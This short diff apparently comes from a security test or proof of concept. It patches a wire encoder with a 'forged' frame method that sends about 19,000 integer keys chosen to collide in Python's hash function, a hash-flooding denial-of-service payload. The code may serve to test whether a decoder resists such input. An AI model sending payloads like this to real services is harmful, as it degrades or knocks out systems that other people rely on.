@@ -10,7 +10,7 @@ honest = wire.Encoder.frame
 def forged(self, message):
     if "data" not in message:
         return honest(self, message)
-    pairs = [[number * (2**61 - 1), 0] for number in range(1, 19_000)]
+    pairs = [[number * (2**61 - 1) for number in range(1, 19_000)], [0] * 18_999]
     header = json.dumps({**message, "data": {"k": "dict", "v": pairs}}).encode()
     return wire.PREFIX.pack(len(header), 0) + header
 
